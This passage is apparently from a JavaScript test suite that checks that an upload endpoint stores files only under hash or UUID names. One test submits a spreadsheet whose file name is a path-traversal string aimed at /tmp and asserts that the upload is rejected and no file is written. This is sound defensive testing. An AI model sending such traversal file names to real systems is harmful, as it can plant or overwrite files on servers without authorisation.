      fs.readdirSync(dir, { withFileTypes: true }).flatMap((d) => {
        const p = path.join(dir, d.name);
        return d.isDirectory() ? walk(p) : [d.name];
      });
    for (const name of walk(root)) expect(name).toMatch(/^([0-9a-f]{64}|[0-9a-f-]{36})$/);
  });

  it('a form upload ignores its file name entirely', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('x');
    const bytes = Buffer.from(await wb.xlsx.writeBuffer());
    const res = await as.school.request({
      method: 'POST',
      url: `/api/collections/${w.platform.collection.id}/xlsx`,
      ...multipartFile(bytes, '../../../../tmp/oko-form-pwned.xlsx'),
    });
    expect(res.statusCode).toBe(400);
    expect(fs.readdirSync('/tmp').filter((n) => n.startsWith('oko-form-pwned'))).toEqual([]);
  });
});
